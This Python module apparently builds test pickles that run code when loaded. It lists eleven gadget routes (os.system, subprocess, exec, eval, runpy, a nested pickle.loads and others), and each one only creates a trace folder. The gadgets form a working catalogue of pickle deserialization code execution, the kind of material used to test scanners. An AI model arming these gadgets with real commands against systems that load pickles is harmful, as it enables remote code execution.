"""Eleven ways to make a program run when its file is unpickled. Each only makes the folder or file that it names."""

import builtins
import importlib
import operator
import os
import pathlib
import pickle
import runpy
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any


class Call:
    """Pickles to a call of a function."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments


class State:
    """Pickles to a harmless object whose state is set by a harmful call."""

    def __init__(self, inner: Call) -> None:
        self.inner = inner

    def __reduce__(self) -> tuple[Any, ...]:
        return list, ([],), None, iter([self.inner])


def gadgets(trace: Path, script: Path) -> dict[str, Any]:
    """Return objects to pickle, by name; unpickling one makes ``trace``. ``script`` is a file they may use."""
    code = f"import os; os.mkdir({str(trace)!r})"
    script.write_text(code)
    os_again = Call(importlib.import_module, "os")
    return {
        "os.mkdir": Call(os.mkdir, str(trace)),
        "os.system": Call(os.system, f"mkdir '{trace}'"),
        "subprocess.call": Call(subprocess.call, ["mkdir", str(trace)]),
        "exec": Call(builtins.exec, code),
        "eval": Call(builtins.eval, f"__import__('os').mkdir({str(trace)!r})"),
        "runpy.run_path": Call(runpy.run_path, str(script)),
        "shutil.copytree": Call(shutil.copytree, str(script.parent), str(trace)),
        "pathlib.Path.mkdir": Call(pathlib.Path.mkdir, trace),
        "an element of a list": State(Call(os.mkdir, str(trace))),
        "nested pickle": Call(pickle.loads, pickle.dumps(Call(os.mkdir, str(trace)))),
        "getattr of a module": Call(operator.call, Call(getattr, os_again, "mkdir"), str(trace)),
    }
